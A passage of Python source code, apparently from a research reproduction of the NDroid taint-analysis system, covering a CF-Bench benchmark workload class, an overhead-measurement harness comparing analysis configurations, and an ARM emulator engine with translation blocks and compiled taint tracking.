    _SYMBOLS = {
        "native_mips": f"{CLASS_NAME}->nativeMips",
        "native_msflops": f"{CLASS_NAME}->nativeFlops",
        "native_mdflops": f"{CLASS_NAME}->nativeDflops",
        "native_mallocs": f"{CLASS_NAME}->nativeMallocs",
        "native_memory_read": f"{CLASS_NAME}->nativeMemRead",
        "native_memory_write": f"{CLASS_NAME}->nativeMemWrite",
        "native_disk_read": f"{CLASS_NAME}->nativeDiskRead",
        "native_disk_write": f"{CLASS_NAME}->nativeDiskWrite",
        "java_mips": f"{CLASS_NAME}->javaMips",
        "java_msflops": f"{CLASS_NAME}->javaFlops",
        "java_mdflops": f"{CLASS_NAME}->javaDflops",
        "java_memory_read": f"{CLASS_NAME}->javaMemRead",
        "java_memory_write": f"{CLASS_NAME}->javaMemWrite",
    }

    def __init__(self, platform, iterations: int = 300) -> None:
        self.platform = platform
        self.iterations = iterations
        self.apk = build_cfbench_apk()
        platform.install(self.apk)
        platform.run_app(self.apk)  # loads libcfbench.so
        self._register_math_intrinsics()
        # Seed the disk-read file.
        platform.kernel.filesystem.write_text("/sdcard/bench.dat",
                                              "x" * 4096)

    def _register_math_intrinsics(self) -> None:
        """Math helpers operating on int bit patterns (soft-float Java)."""
        vm = self.platform.vm

        def sin_bits(vm_, args):
            value = math.sin(args[0].value / 1000.0)
            return Slot(int(value * 1000) & 0xFFFF_FFFF,
                        args[0].taint)

        def pow_bits(vm_, args):
            value = math.pow(1.0001, (args[0].value % 97) + 1)
            return Slot(int(value * 1000) & 0xFFFF_FFFF,
                        args[0].taint | args[1].taint)

        vm.register_intrinsic("Ljava/lang/Math;->sinBits", sin_bits)
        vm.register_intrinsic("Ljava/lang/Math;->powBits", pow_bits)

    def run_workload(self, name: str,
                     iterations: Optional[int] = None) -> WorkloadResult:
        if name not in self._SYMBOLS:
            raise KeyError(f"unknown workload {name!r}")
        count = iterations if iterations is not None else self.iterations
        symbol = self._SYMBOLS[name]
        start = time.perf_counter()
        self.platform.vm.call_main(symbol, [Slot(count)])
        elapsed = time.perf_counter() - start
        return WorkloadResult(name=name, iterations=count,
                              elapsed_seconds=elapsed)

    def run_all(self,
                iterations: Optional[int] = None) -> Dict[str, WorkloadResult]:
        return {name: self.run_workload(name, iterations)
                for name in WORKLOADS}


def geometric_mean(values: List[float]) -> float:
    """Geometric mean (the aggregation CF-Bench uses for its scores)."""
    if not values:
        return 0.0
    return math.exp(sum(math.log(max(v, 1e-12)) for v in values)
                    / len(values))
