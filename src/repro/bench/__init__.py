"""Benchmark workloads and the overhead harness.

:mod:`cfbench` reimplements the CF-Bench (Chainfire) workload classes the
paper uses for Fig. 10 — native/Java MIPS, MSFLOPS, MDFLOPS, mallocs,
memory read/write, disk read/write — as an installable app whose native
half is real assembled ARM code invoked through JNI, exactly like the
original benchmark APK.

:mod:`harness` runs the suite under each configuration (vanilla,
TaintDroid, TaintDroid+NDroid, DroidScope-sim) and computes per-workload
slowdown ratios against the vanilla platform.
"""

from repro.bench.cfbench import CFBench, WORKLOADS, WorkloadResult
from repro.bench.emulator_bench import (
    EmulatorBench,
    compare_to_baseline,
    load_results,
    write_results,
)
from repro.bench.harness import OverheadHarness, OverheadTable

__all__ = [
    "CFBench",
    "WORKLOADS",
    "WorkloadResult",
    "EmulatorBench",
    "compare_to_baseline",
    "load_results",
    "write_results",
    "OverheadHarness",
    "OverheadTable",
]
