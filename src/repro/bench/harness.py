"""The Fig. 10 overhead harness.

Runs the CF-Bench suite under each analysis configuration and reports
per-workload slowdown relative to the vanilla platform, plus the
aggregated Native/Java/Overall rows of Fig. 10.
"""

from __future__ import annotations

import statistics
from dataclasses import dataclass, field
from typing import Dict, List, Optional

from repro.bench.cfbench import (
    CFBench,
    JAVA_WORKLOADS,
    NATIVE_WORKLOADS,
    WORKLOADS,
    geometric_mean,
)
from repro.core import NDroid
from repro.droidscope import DroidScopeSim
from repro.framework import AndroidPlatform
from repro.taintdroid import TaintDroid

CONFIGS = ("vanilla", "taintdroid", "ndroid", "droidscope")


def make_platform(config: str, use_tb: bool = True, trace: bool = False,
                  observe: bool = True) -> AndroidPlatform:
    """Build a platform with the named analysis configuration attached.

    ``use_tb=False`` pins the emulator to the single-step engine (the
    pre-translation baseline the emulator benchmark compares against).
    ``observe=False`` skips the observability facade entirely;
    ``trace=True`` additionally enables the provenance ledger and the
    sampling profiler before the analysis attaches.
    """
    platform = AndroidPlatform(use_tb=use_tb, observe=observe)
    if trace:
        if platform.observability is None:
            raise ValueError("trace=True requires observe=True")
        platform.observability.enable_tracing()
    if config == "taintdroid":
        TaintDroid.attach(platform)
    elif config == "ndroid":
        NDroid.attach(platform)
    elif config == "droidscope":
        DroidScopeSim.attach(platform)
    elif config != "vanilla":
        raise ValueError(f"unknown config {config!r}")
    return platform


@dataclass
class OverheadTable:
    """Per-workload slowdown of one config vs vanilla."""

    config: str
    rows: Dict[str, float] = field(default_factory=dict)

    @property
    def native_score(self) -> float:
        return geometric_mean([self.rows[w] for w in NATIVE_WORKLOADS
                               if w in self.rows])

    @property
    def java_score(self) -> float:
        return geometric_mean([self.rows[w] for w in JAVA_WORKLOADS
                               if w in self.rows])

    @property
    def overall(self) -> float:
        return geometric_mean(list(self.rows.values()))

    def format(self) -> str:
        label = {"taintdroid": "TaintDroid", "ndroid": "NDroid",
                 "droidscope": "DroidScope-sim"}.get(self.config,
                                                     self.config)
        lines = [f"== {label} slowdown vs vanilla (x) =="]
        for name in WORKLOADS:
            if name in self.rows:
                lines.append(f"  {name:<22s} {self.rows[name]:8.2f}")
        lines.append(f"  {'Native Score':<22s} {self.native_score:8.2f}")
        lines.append(f"  {'Java Score':<22s} {self.java_score:8.2f}")
        lines.append(f"  {'Overall Score':<22s} {self.overall:8.2f}")
        return "\n".join(lines)


class OverheadHarness:
    """Measures wall-clock slowdown per workload per configuration."""

    def __init__(self, iterations: int = 300, repeats: int = 1) -> None:
        self.iterations = iterations
        self.repeats = repeats

    def measure_config(self, config: str,
                       workloads: Optional[List[str]] = None
                       ) -> Dict[str, float]:
        """Best-of-N elapsed seconds per workload under ``config``."""
        platform = make_platform(config)
        bench = CFBench(platform, iterations=self.iterations)
        names = workloads if workloads is not None else list(WORKLOADS)
        timings: Dict[str, float] = {}
        for name in names:
            samples = [bench.run_workload(name).elapsed_seconds
                       for __ in range(self.repeats)]
            timings[name] = min(samples)
        return timings

    def overhead_table(self, config: str,
                       baseline: Optional[Dict[str, float]] = None,
                       workloads: Optional[List[str]] = None
                       ) -> OverheadTable:
        if baseline is None:
            baseline = self.measure_config("vanilla", workloads)
        measured = self.measure_config(config, workloads)
        rows = {
            name: measured[name] / baseline[name]
            for name in measured
            if baseline.get(name)
        }
        return OverheadTable(config=config, rows=rows)

    def compare_all(self, workloads: Optional[List[str]] = None
                    ) -> Dict[str, OverheadTable]:
        baseline = self.measure_config("vanilla", workloads)
        return {
            config: self.overhead_table(config, baseline, workloads)
            for config in CONFIGS
            if config != "vanilla"
        }
