"""Core execution engine: translation blocks with instrumentation gating.

Mirroring NDroid's QEMU substrate, the emulator executes *translation
blocks* — straight-line runs decoded once, cached by ``(pc, thumb)`` and
chained to their static successors — rather than fetch/decode/execute per
instruction.  Instrumentation is decided at translation boundaries: while
no per-instruction instrumentation is attached (no tracers, no fault
injector), blocks run through a tight micro-op loop with **zero**
per-instruction checks.

Taint analysis is *compiled into* the blocks rather than demoting them
(NDroid inserts its analysis at translation time inside QEMU's TCG
loop): a tracer declaring ``compiles_to_tb`` stays on the block engine —
at translation time the emulator asks it once per page whether the block
is in a third-party region and, when it is, requests a pre-bound Table V
taint micro-op per instruction.  Each such block carries two executable
variants sharing one translation pass: *clean* (taint ops elided) runs
while the taint engine's sticky ``maybe_tainted`` flag is off, *tainted*
(taint ops interleaved before their execution ops) once it flips — the
flag is re-read at every block dispatch, so the transition needs no
retranslation.  Anything else — plain tracers, several taint engines at
once, a fault injector — reverts execution to the single-step
interpreter whose semantics the blocks replicate (that path also serves
as the differential oracle for the compiled one).

Invalidation is page-granular and shared between the decode cache and
the block cache: a write into a page holding translated code (observed
through the memory write-watch), a host-function registration, or a new
entry/exit hook on that page drops the page's blocks and severs chain
links, so self-modifying code is re-translated at the next block
boundary.
"""

from __future__ import annotations

import time
from typing import Any, Callable, Dict, List, Optional, Set, Tuple

from repro.common.errors import DecodeError, EmulationError
from repro.common.events import EventLog
from repro.cpu.arm_decoder import decode_arm
from repro.cpu.executor import Executor
from repro.cpu.isa import Instruction
from repro.cpu.state import LR, PC, SP, CpuState
from repro.cpu.thumb_decoder import decode_thumb
from repro.emulator.tb import TranslationBlock, TranslationCache
from repro.emulator.translator import (
    build_micro_op,
    ends_block,
    interleave_taint_ops,
    static_branch_target,
)
from repro.memory.memory import Memory
from repro.memory.regions import MemoryMap

# Returning to this address stops the run loop; the call bridge sets LR to
# it before jumping into a native method (QEMU's equivalent is returning to
# the JNI trampoline).
EXIT_ADDRESS = 0xFFFF_0000

# Translation stops after this many body micro-ops even without a branch
# (bounds translation latency and keeps invalidation granular).
MAX_BLOCK_OPS = 64

BranchListener = Callable[[int, int, "Emulator"], None]
Tracer = Callable[[Instruction, "Emulator"], None]
Hook = Callable[["Emulator"], None]
SyscallHandler = Callable[[int, "Emulator"], None]
# A fault injector observes named fault points ("step", "decode", "host",
# "hook") and may raise to simulate a failure there.  The resilience
# subsystem's FaultPlan implements this surface; installing one switches
# execution to the per-instruction engine so every fault point fires.
FaultInjector = Callable[..., None]


class HostContext:
    """Argument accessor handed to host functions (AAPCS view).

    The first four arguments live in R0-R3; the rest are on the stack.
    ``returns`` sets R0 (and R1 for 64-bit results).
    """

    def __init__(self, emu: "Emulator") -> None:
        self.emu = emu
        self.cpu = emu.cpu
        self.memory = emu.memory

    def arg(self, index: int) -> int:
        if index < 4:
            return self.cpu.regs[index]
        return self.memory.read_u32(self.cpu.sp + 4 * (index - 4))

    def set_result(self, value: int, high: Optional[int] = None) -> None:
        self.cpu.write_reg(0, value)
        if high is not None:
            self.cpu.write_reg(1, high)

    def cstring_arg(self, index: int) -> str:
        return self.memory.read_cstring(self.arg(index)).decode(
            "utf-8", errors="replace")


# A host function receives a HostContext; returning an int sets R0.
HostFunction = Callable[[HostContext], Optional[int]]


class _RegisteredHost:
    __slots__ = ("name", "function")

    def __init__(self, name: str, function: HostFunction) -> None:
        self.name = name
        self.function = function


class Emulator:
    """An emulated ARM machine with analysis instrumentation.

    ``use_tb=False`` forces the pre-translation single-step engine (used
    by the benchmark harness to measure the translation engine's gain).
    """

    def __init__(self, memory: Optional[Memory] = None,
                 event_log: Optional[EventLog] = None,
                 use_tb: bool = True) -> None:
        self.memory = memory if memory is not None else Memory()
        self.cpu = CpuState()
        self.memory_map = MemoryMap()
        self.event_log = event_log if event_log is not None else EventLog()
        self.executor = Executor(self.cpu, self.memory,
                                 svc_handler=self._handle_svc)
        self.use_tb = use_tb

        self._decode_cache: Dict[Tuple[int, bool], Instruction] = {}
        # Page-granular reverse index over the decode cache, shared with
        # the translation-block cache's invalidation path.
        self._decode_pages: Dict[int, Set[Tuple[int, bool]]] = {}
        # Per-page [lo, hi) span of addresses actually decoded as code.
        # Writes to a watched page outside this span (literal pools, data
        # buffers sharing a code page) don't invalidate anything.
        self._code_extents: Dict[int, List[int]] = {}
        self._tb_cache = TranslationCache()
        self.memory.set_write_watcher(self._on_code_page_write)
        # Optional cross-job translation persistence (emulator/persist.py),
        # injected by the platform; the emulator never imports it.  The
        # registry maps region base -> (content digest, size, variant) for
        # every code region announced via register_code_region().
        self.persistence = None
        self._code_regions: Dict[int, Tuple[str, int, str]] = {}

        self._host_functions: Dict[int, _RegisteredHost] = {}
        self._entry_hooks: Dict[int, List[Hook]] = {}
        self._exit_hooks: Dict[int, List[Hook]] = {}
        self._pending_exits: List[Tuple[int, int, Hook]] = []
        self._branch_listeners: List[BranchListener] = []
        self._tracers: List[Tracer] = []
        self.syscall_handler: Optional[SyscallHandler] = None
        # Pluggable fault injection (resilience/faults.py); stays None in
        # production runs.  Installing one forces per-instruction mode.
        self._fault_injector: Optional[FaultInjector] = None
        # Optional TB-boundary sampling profiler (observability).  Unlike
        # tracers, attaching one does NOT force the single-step engine:
        # sampling is a block-boundary presence check, never per-step.
        self._profiler = None
        # Optional span tracer (observability/spans.py).  Emits only at
        # translation time — a cache-miss path — never per block run, so
        # execution order and instruction counts are identical either way.
        self.span_tracer = None
        # True while any per-instruction instrumentation is attached.
        self._per_step_instrumentation = False
        # The single attached tracer whose taint propagation is compiled
        # into translation blocks (None when no tracer, a non-compiling
        # tracer, several tracers, or a fault injector is attached).
        self._taint_compiler = None
        # Compiled blocks bake in per-page third-party decisions; a
        # region-table change must drop those caches.
        self.memory_map.subscribe(self._on_region_change)

        self.instruction_count = 0
        self.host_call_count = 0
        self.decode_count = 0
        # Wall-clock seconds spent inside _translate (warm-vs-cold bench).
        self.translate_seconds = 0.0
        self._running = False
        self._stop_requested = False
        # Nested call() invocations each get their own return sentinel so
        # an inner function's return never triggers an outer caller's
        # pending exit hooks (both would otherwise target EXIT_ADDRESS).
        self._call_depth = 0

    # -- code/data loading ----------------------------------------------------

    def load(self, address: int, data: bytes) -> None:
        self.memory.write_bytes(address, data)
        self.invalidate_cache()

    def invalidate_cache(self) -> None:
        """Drop every translated block and decoded instruction."""
        for page in list(self._decode_pages):
            self.memory.unwatch_page(page)
        for page in self._tb_cache.pages():
            self.memory.unwatch_page(page)
        self._decode_cache.clear()
        self._decode_pages.clear()
        self._code_extents.clear()
        self._tb_cache.flush()

    def invalidate_page(self, page: int) -> None:
        """Page-granular invalidation (self-modifying code, new hooks)."""
        keys = self._decode_pages.pop(page, None)
        if keys:
            for key in keys:
                self._decode_cache.pop(key, None)
        self._code_extents.pop(page, None)
        self._tb_cache.invalidate_page(page)
        if page not in self._decode_pages and page not in self._tb_cache.pages():
            self.memory.unwatch_page(page)

    def _on_code_page_write(self, page: int, start: int, end: int) -> None:
        extent = self._code_extents.get(page)
        if extent is None:
            return
        # Only writes overlapping bytes that were actually decoded as
        # code invalidate; data sharing the page (literal pools, .space
        # buffers) is written freely.
        base = page << 12
        if base + start < extent[1] and base + end > extent[0]:
            self.invalidate_page(page)

    # -- translation persistence ----------------------------------------------

    def _taint_variant(self) -> str:
        return "taint" if self._taint_compiler is not None else "plain"

    def register_code_region(self, base: int, code: bytes) -> None:
        """Announce a loaded code region for cross-job persistence.

        Digests the bytes as loaded; seeding and flushing both re-digest
        the *live* bytes so a region that was since modified (SMC) or
        replaced never aliases another app's descriptors.
        """
        persistence = self.persistence
        if persistence is None:
            return
        variant = self._taint_variant()
        digest = persistence.region_digest(code, variant)
        self._code_regions[base] = (digest, len(code), variant)
        self._seed_region(base, digest, len(code), variant)

    def drop_code_region(self, base: int) -> None:
        self._code_regions.pop(base, None)

    def _seed_region(self, base: int, digest: str, size: int,
                     variant: str) -> int:
        """Pre-fill the decode cache from persisted descriptors.

        Mirrors ``_decode``'s page/extent/watch bookkeeping exactly —
        seeded entries invalidate on writes the same way organically
        decoded ones do — but never bumps ``decode_count``: seeding is
        what replaces decoding.
        """
        persistence = self.persistence
        if persistence is None or variant != self._taint_variant():
            return 0
        entries = persistence.load_region(digest)
        if entries is None:
            persistence.miss("tb")
            return 0
        # Content-digest guard (read side): only rehydrate when the bytes
        # actually mapped at `base` are the bytes the descriptors were
        # decoded from — two apps mapping different code at the same
        # addresses can never alias.
        live = self.memory.read_bytes(base, size)
        if persistence.region_digest(live, variant) != digest:
            persistence.miss("tb")
            return 0
        started = time.perf_counter()
        decode_cache = self._decode_cache
        seeded = 0
        for offset, thumb, ir in entries:
            address = base + offset
            key = (address, thumb)
            if key in decode_cache:
                continue
            decode_cache[key] = ir
            end = address + ir.width
            for page in range(address >> 12, (end - 1 >> 12) + 1):
                self._decode_pages.setdefault(page, set()).add(key)
                extent = self._code_extents.get(page)
                if extent is None:
                    self._code_extents[page] = [address, end]
                else:
                    if address < extent[0]:
                        extent[0] = address
                    if end > extent[1]:
                        extent[1] = end
                self.memory.watch_page(page)
            seeded += 1
        if seeded:
            persistence.hit("tb", seeded)
            persistence.rebound("tb", started)
        else:
            persistence.miss("tb")
        return seeded

    def reseed_code_regions(self) -> int:
        """Re-seed every registered region (after an invalidate_cache)."""
        seeded = 0
        for base, (digest, size, variant) in list(self._code_regions.items()):
            seeded += self._seed_region(base, digest, size, variant)
        return seeded

    def persist_code_regions(self) -> int:
        """Record this job's decode descriptors into the persistence tier."""
        persistence = self.persistence
        if persistence is None or not self._code_regions:
            return 0
        fresh = 0
        for base, (digest, size, variant) in self._code_regions.items():
            if variant != self._taint_variant():
                continue
            # Content-digest guard (write side): never store descriptors
            # under a digest the live bytes no longer match (the region
            # was SMC'd or replaced since registration).
            live = self.memory.read_bytes(base, size)
            if persistence.region_digest(live, variant) != digest:
                continue
            span_end = base + size
            entries = [(address - base, thumb, ir)
                       for (address, thumb), ir in self._decode_cache.items()
                       if base <= address < span_end]
            if entries:
                fresh += persistence.update_region(digest, entries)
        return fresh

    # -- instrumentation bookkeeping ------------------------------------------

    def instrumentation_free(self) -> bool:
        """True when no hook/listener/injector could observe a call.

        The JNI trampoline fast path bypasses the guest-memory marshalling
        protocol, which is exactly what entry/exit hooks (NDroid) and the
        per-instruction engines inspect — so it may only be taken when
        nothing is attached.
        """
        return (not self._entry_hooks and not self._exit_hooks
                and not self._branch_listeners
                and self._fault_injector is None
                and not self._per_step_instrumentation)

    def _refresh_instrumentation(self) -> None:
        compilers = [tracer for tracer in self._tracers
                     if getattr(tracer, "compiles_to_tb", False)]
        # Exactly one compiling tracer and no fault injector: its taint
        # propagation rides inside the translation blocks.  Everything
        # else needs the per-instruction engine (the fault injector must
        # see every fault point; a second engine would break the
        # per-block maybe_tainted variant choice).
        if self._fault_injector is None and self._tracers and \
                len(compilers) == len(self._tracers) == 1:
            new_compiler = compilers[0]
            self._per_step_instrumentation = False
        else:
            new_compiler = None
            self._per_step_instrumentation = bool(self._tracers) or \
                self._fault_injector is not None
        if new_compiler is not self._taint_compiler:
            # Existing blocks lack (or embed) the old instrumentation.
            self._taint_compiler = new_compiler
            self._flush_translations()

    def _flush_translations(self) -> None:
        """Drop every translated block but keep the decode cache."""
        for page in self._tb_cache.pages():
            if page not in self._decode_pages:
                self.memory.unwatch_page(page)
        self._tb_cache.flush()

    def _on_region_change(self) -> None:
        """The region table changed: per-page third-party decisions may be
        stale, both in tracer region caches and in compiled blocks."""
        for tracer in self._tracers:
            invalidate = getattr(tracer, "invalidate_region_cache", None)
            if invalidate is not None:
                # A compiling tracer's invalidation also flushes the
                # translation cache through its registered callback.
                invalidate()

    @property
    def fault_injector(self) -> Optional[FaultInjector]:
        return self._fault_injector

    @fault_injector.setter
    def fault_injector(self, injector: Optional[FaultInjector]) -> None:
        self._fault_injector = injector
        self._refresh_instrumentation()

    @property
    def profiler(self):
        return self._profiler

    @profiler.setter
    def profiler(self, profiler) -> None:
        # Deliberately no _refresh_instrumentation(): the profiler samples
        # at block boundaries and must not demote the TB fast path.
        self._profiler = profiler

    # -- host functions -------------------------------------------------------

    def register_host_function(self, address: int, name: str,
                               function: HostFunction) -> int:
        """Install a Python-implemented function at an emulated address."""
        if address in self._host_functions:
            raise EmulationError(
                f"host function already registered @ 0x{address:08x}")
        self._host_functions[address] = _RegisteredHost(name, function)
        # Blocks translated before this registration assumed the address
        # held (or preceded) translatable code.
        self.invalidate_page((address & ~1) >> 12)
        return address

    def host_function_at(self, address: int) -> Optional[str]:
        registered = self._host_functions.get(address)
        return registered.name if registered else None

    def is_host_address(self, address: int) -> bool:
        return (address & ~1) in self._host_functions

    def call_host(self, address: int) -> None:
        """Invoke a host function as if emulated code branched to it.

        Used by host functions that internally call other hooked functions
        (e.g. ``CallVoidMethodA`` → ``dvmCallMethodA`` → ``dvmInterpret``),
        so the branch-event chain the multilevel hooks watch is preserved,
        and entry/exit hooks fire exactly as for an emulated call.
        """
        caller_pc = self.cpu.pc
        self._notify_branch(caller_pc, address)
        self._dispatch_host(address, simulate_return=False,
                            return_address=caller_pc + 4)
        self._notify_branch(address, caller_pc + 4)
        self._fire_exit_hooks(caller_pc + 4)

    # -- hooks -----------------------------------------------------------------

    def add_entry_hook(self, address: int, hook: Hook) -> None:
        self._entry_hooks.setdefault(address & ~1, []).append(hook)
        self.invalidate_page((address & ~1) >> 12)

    def add_exit_hook(self, address: int, hook: Hook) -> None:
        self._exit_hooks.setdefault(address & ~1, []).append(hook)
        self.invalidate_page((address & ~1) >> 12)

    def add_branch_listener(self, listener: BranchListener) -> None:
        self._branch_listeners.append(listener)

    def add_tracer(self, tracer: Tracer) -> None:
        self._tracers.append(tracer)
        wire = getattr(tracer, "set_region_invalidate_callback", None)
        if wire is not None:
            wire(self._flush_translations)
        self._refresh_instrumentation()

    def remove_tracer(self, tracer: Tracer) -> None:
        self._tracers.remove(tracer)
        unwire = getattr(tracer, "set_region_invalidate_callback", None)
        if unwire is not None:
            unwire(None)
        self._refresh_instrumentation()

    def _notify_branch(self, i_from: int, i_to: int) -> None:
        for listener in self._branch_listeners:
            listener(i_from, i_to, self)

    def _fire_entry_hooks(self, address: int,
                          return_address: Optional[int] = None) -> None:
        hooks = self._entry_hooks.get(address & ~1)
        if hooks:
            for hook in hooks:
                hook(self)
        exit_hooks = self._exit_hooks.get(address & ~1)
        if exit_hooks:
            if return_address is None:
                return_address = self.cpu.lr
            return_address &= ~1
            for hook in exit_hooks:
                self._pending_exits.append((return_address, self.cpu.sp, hook))

    def _fire_exit_hooks(self, address: int) -> None:
        if not self._pending_exits:
            return
        address &= ~1
        # Fire every pending exit whose recorded return site we just reached
        # with the stack back at (or above) the call-time level.
        remaining: List[Tuple[int, int, Hook]] = []
        for return_address, sp_at_entry, hook in self._pending_exits:
            if return_address == address and self.cpu.sp >= sp_at_entry:
                hook(self)
            else:
                remaining.append((return_address, sp_at_entry, hook))
        self._pending_exits = remaining

    # -- syscalls ---------------------------------------------------------------

    def _handle_svc(self, imm: int, cpu: CpuState, memory: Memory) -> None:
        if self.syscall_handler is None:
            raise EmulationError(f"SVC #{imm} but no syscall handler installed")
        self.syscall_handler(imm, self)

    # -- fault points -------------------------------------------------------------

    def fire_fault_point(self, point: str, **context: Any) -> None:
        """Give the installed fault injector a chance to fail ``point``.

        The named points sit at the emulator's existing raise sites: a
        fault plan raising here is indistinguishable from the organic
        failure (undecodable word, wild pointer, broken hook).
        """
        if self._fault_injector is not None:
            self._fault_injector(point, self, **context)

    # -- decode -----------------------------------------------------------------

    def _decode(self, address: int, thumb: bool) -> Instruction:
        key = (address, thumb)
        cached = self._decode_cache.get(key)
        if cached is not None:
            return cached
        self.decode_count += 1
        self.fire_fault_point("decode", address=address, thumb=thumb)
        try:
            if thumb:
                halfword = self.memory.read_u16(address)
                next_halfword = self.memory.read_u16(address + 2)
                ir = decode_thumb(halfword, next_halfword)
            else:
                ir = decode_arm(self.memory.read_u32(address))
        except DecodeError as error:
            if error.pc is None:
                error.pc = address
            raise
        self._decode_cache[key] = ir
        # Track (and watch) the pages this decode read, so a write to
        # them invalidates the cached instruction.
        end = address + ir.width
        for page in range(address >> 12, (end - 1 >> 12) + 1):
            self._decode_pages.setdefault(page, set()).add(key)
            extent = self._code_extents.get(page)
            if extent is None:
                self._code_extents[page] = [address, end]
            else:
                if address < extent[0]:
                    extent[0] = address
                if end > extent[1]:
                    extent[1] = end
            self.memory.watch_page(page)
        return ir

    # -- single-step engine (instrumented mode) ----------------------------------

    def step(self) -> None:
        """Execute a single instruction (or host function) at PC."""
        pc = self.cpu.pc
        profiler = self._profiler
        if profiler is not None and \
                self.instruction_count >= profiler.next_sample:
            profiler.take_sample(pc, self.instruction_count)
        self.fire_fault_point("step", pc=pc,
                              instruction_count=self.instruction_count)
        if self.is_host_address(pc):
            self._dispatch_host(pc & ~1, simulate_return=True)
            return
        ir = self._decode(pc, self.cpu.thumb)
        for tracer in self._tracers:
            tracer(ir, self)
        wrote_pc = self.executor.execute(ir)
        self.instruction_count += 1
        if wrote_pc:
            target = self.cpu.pc
            self._notify_branch(pc, target)
            self._fire_exit_hooks(target)
            if not self.is_host_address(target):
                # Host dispatch fires entry hooks itself on the next step.
                self._fire_entry_hooks(target)
        else:
            self.cpu.pc = pc + ir.width

    # -- translation ----------------------------------------------------------------

    def _translate(self, pc: int, thumb: bool) -> TranslationBlock:
        """Decode a straight-line run starting at ``pc`` into a block.

        With a taint-compiling tracer attached, the third-party region
        lookup is hoisted here — once per page the block covers, instead
        of once per executed instruction — and each in-scope instruction
        gets a pre-bound taint micro-op for the block's tainted variant.
        """
        tracer = self.span_tracer
        span_start = tracer.now() if tracer is not None else 0.0
        translate_start = time.perf_counter()
        ops = []
        specialised = 0
        term_ir: Optional[Instruction] = None
        term_pc = pc
        current = pc
        hosts = self._host_functions
        compiler = self._taint_compiler
        taint_slots: List = []
        traced = 0
        term_taint_op = None
        scope_page = -1
        in_scope = False
        while True:
            if current in hosts or (current | 1) in hosts:
                break  # host boundary: fall through into host dispatch
            ir = self._decode(current, thumb)
            if compiler is not None:
                page = current >> 12
                if page != scope_page:
                    scope_page = page
                    in_scope = compiler.in_scope(current)
            if ends_block(ir):
                term_ir = ir
                term_pc = current
                if compiler is not None and in_scope:
                    term_taint_op = compiler.compile_taint_op(
                        ir, current, self)
                    traced += 1
                current += ir.width
                break
            op, is_specialised = build_micro_op(
                ir, current, thumb, self.cpu, self.memory, self.executor)
            ops.append(op)
            if compiler is not None and in_scope:
                taint_slots.append(compiler.compile_taint_op(
                    ir, current, self))
                traced += 1
            else:
                taint_slots.append(None)
            if is_specialised:
                specialised += 1
            current += ir.width
            if len(ops) >= MAX_BLOCK_OPS:
                break
        fall_pc = current & 0xFFFF_FFFF
        taken_pc = (static_branch_target(term_ir, term_pc, thumb)
                    if term_ir is not None else None)
        pages = tuple(range(pc >> 12, ((current + 3) >> 12) + 1))
        body_ops = tuple(ops)
        taint_ops = (interleave_taint_ops(body_ops, taint_slots)
                     if traced else None)
        tb = TranslationBlock(
            pc=pc, thumb=thumb, ops=body_ops, term_ir=term_ir,
            term_pc=term_pc, fall_pc=fall_pc, taken_pc=taken_pc,
            length=len(ops) + (1 if term_ir is not None else 0),
            pages=pages, specialised=specialised, taint_ops=taint_ops,
            term_taint_op=term_taint_op, traced=traced)
        self._tb_cache.put(tb)
        for page in pages:
            self.memory.watch_page(page)
        self.translate_seconds += time.perf_counter() - translate_start
        if tracer is not None:
            tracer.complete("tb_translate", span_start, cat="engine",
                            pc=pc, ops=tb.length, traced=traced)
        return tb

    def translation_stats(self) -> Dict[str, int]:
        return {
            "blocks": len(self._tb_cache),
            "translations": self._tb_cache.translations,
            "invalidations": self._tb_cache.invalidations,
        }

    # -- block dispatch (uninstrumented fast path) ---------------------------------

    def _run_translated(self, stop_at: int, budget: int) -> int:
        """Run translated blocks until a boundary condition; returns steps.

        Exits when ``stop_at`` is reached, ``stop()`` was requested,
        per-instruction instrumentation appeared (a hook attached a
        tracer), or the step budget is exhausted (the caller re-checks
        and raises).  The inner loop performs no per-instruction checks:
        boundary work (branch listeners, entry/exit hooks, host
        dispatch, stop/budget checks) happens between blocks only.
        """
        cpu = self.cpu
        regs = cpu.regs
        cache = self._tb_cache
        hosts = self._host_functions
        executor_execute = self.executor.execute
        # Hoisted like the other per-block state: one `is not None` check
        # per block when attached, nothing extra on the code path when not.
        profiler = self._profiler
        compiler = self._taint_compiler
        # The sticky flag is re-read at every block dispatch: taint only
        # enters through hooks, host functions and syscalls, all of which
        # fire at block boundaries, so choosing the variant per block is
        # exactly as precise as the single-step engine's per-instruction
        # check.
        engine = compiler.taint if compiler is not None else None
        executed = 0
        tb: Optional[TranslationBlock] = None
        # Pending chain link: (predecessor, True for taken-edge).
        link: Optional[Tuple[TranslationBlock, bool]] = None
        while executed < budget:
            pc = regs[PC]
            if pc == stop_at or self._stop_requested or \
                    self._per_step_instrumentation or \
                    self._taint_compiler is not compiler:
                break  # (a hook may re-wire instrumentation mid-run)
            if profiler is not None and \
                    self.instruction_count >= profiler.next_sample:
                profiler.take_sample(pc, self.instruction_count)
            if tb is None or not tb.valid:
                if (pc & ~1) in hosts:
                    self._dispatch_host(pc & ~1, simulate_return=True)
                    executed += 1
                    tb = None
                    link = None
                    continue
                tb = cache.get((pc, cpu.thumb))
                if tb is None:
                    tb = self._translate(pc, cpu.thumb)
                if link is not None:
                    predecessor, taken_edge = link
                    if predecessor.valid:
                        if taken_edge:
                            predecessor.succ_taken = tb
                        else:
                            predecessor.succ_fall = tb
                    link = None

            # ---- the tight loop: zero per-instruction checks ----
            # Variant choice: tainted (taint ops interleaved) once any
            # label is live, clean (plain body) otherwise.
            tainted = engine is not None and engine.maybe_tainted
            for op in (tb.taint_ops if tainted else tb.ops):
                op()
            if compiler is not None and tb.traced:
                compiler.traced_instructions += tb.traced

            executed += tb.length
            term_ir = tb.term_ir
            if term_ir is None:
                # Block was cut short (length cap / host code ahead).
                self.instruction_count += tb.length
                regs[PC] = tb.fall_pc
                successor = tb.succ_fall
                if successor is None:
                    link = (tb, False)
                tb = successor
                continue

            regs[PC] = tb.term_pc
            if tainted and tb.term_taint_op is not None:
                tb.term_taint_op()
            wrote_pc = executor_execute(term_ir)
            self.instruction_count += tb.length
            if not wrote_pc:
                regs[PC] = tb.fall_pc
                successor = tb.succ_fall
                if successor is None:
                    link = (tb, False)
                tb = successor
                continue

            target = regs[PC]
            # Block-boundary instrumentation (cheap presence checks; the
            # paper's per-crossing hooks live here, not per instruction).
            if self._branch_listeners:
                self._notify_branch(tb.term_pc, target)
            if self._pending_exits:
                self._fire_exit_hooks(target)
            if (self._entry_hooks or self._exit_hooks) and \
                    (target & ~1) not in hosts:
